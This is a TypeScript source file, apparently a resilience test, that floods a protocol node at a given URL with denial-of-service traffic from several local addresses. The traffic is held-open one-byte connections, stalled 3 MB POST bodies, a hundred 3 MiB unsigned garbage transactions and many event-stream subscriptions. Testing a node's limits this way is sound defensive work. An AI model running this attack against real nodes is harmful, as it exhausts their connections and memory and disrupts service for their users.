/**
 * A program that attacks a node from other addresses of this machine, one for each attack, until it is ended:
 * `node attack-node.ts URL`. Prints a line of JSON each second: what it has had answered, and what it holds open.
 */
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { encodeTransaction } from '@granary/protocol/messages'

const [target = ''] = process.argv.slice(2)
const { hostname, port } = new URL(target)
const MEGABYTE = 1_000_000
const REOPEN_MS = 1_000
const seen: Record<string, number> = {}

/** A socket that sends once; its answers are counted by status, and `closed` for one without. */
function open(localAddress: string, sent: string | Uint8Array): Socket {
  const socket = connect({ host: hostname, port: Number(port), localAddress })
  let status = 'closed'
  socket.once('data', (data) => {
    status = /^HTTP\/1\.1 (\d+)/.exec(String(data))?.[1] ?? 'nonsense'
    count(`${localAddress} ${status}`)
  })
  socket.on('data', () => undefined)
  socket.on('error', () => undefined)
  socket.once('close', () => status === 'closed' && count(`${localAddress} closed`))
  socket.write(sent)
  return socket
}

function count(what: string): void {
  seen[what] = (seen[what] ?? 0) + 1
}

/** So many sockets at all times: each that was closed is opened anew after a while. */
function hold(localAddress: string, sockets: number, sent: string | Uint8Array): void {
  for (let index = 0; index < sockets; index += 1) void keepOpen(localAddress, sent)
}

async function keepOpen(localAddress: string, sent: string | Uint8Array): Promise<void> {
  await sleep(Math.random() * REOPEN_MS)
  for (;;) {
    const socket = open(localAddress, sent)
    if (!socket.closed) await new Promise((resolve) => socket.once('close', resolve))
    await sleep(REOPEN_MS)
  }
}

const post = (bytes: number): string =>
  `POST /v1/txs HTTP/1.1\r\nhost: x\r\ncontent-type: application/octet-stream\r\ncontent-length: ${bytes}\r\n\r\n`

function garbage(seed: number): Uint8Array {
  const sender = `0x${seed.toString(16).padStart(40, '0')}` as const
  const envelope = { sender, lane: 0, sequence: 0, validUntil: 1_000_000, maxFee: 10n ** 19n }
  const body = { provider: 1_000, number: seed, bundle: new Uint8Array(3 * 2 ** 20 - 256).fill(seed) }
  return encodeTransaction({ kind: 'ProveCommitSector', ...envelope, body }, new Uint8Array(65))
}

/** A hundred times three mebibytes, each signed by nobody for an account that does not exist. */
async function sendGarbage(localAddress: string): Promise<void> {
  for (let seed = 1; seed <= 100; seed += 1) {
    const bytes = garbage(seed)
    const socket = open(localAddress, Buffer.concat([Buffer.from(post(bytes.length)), bytes]))
    await Promise.race([new Promise((resolve) => socket.once('data', resolve)), sleep(1_000)])
    socket.destroy()
  }
}

hold('127.0.0.2', 1_024, 'G')
void sendGarbage('127.0.0.3')
hold('127.0.0.4', 80, Buffer.concat([Buffer.from(post(3 * MEGABYTE)), Buffer.alloc(3 * MEGABYTE - 1)]))
hold('127.0.0.5', 256, 'GET /v1/events?since=0 HTTP/1.1\r\nhost: x\r\n\r\n')
for (;;) {
  await sleep(1_000)
  process.stdout.write(`${JSON.stringify(seen)}\n`)
}
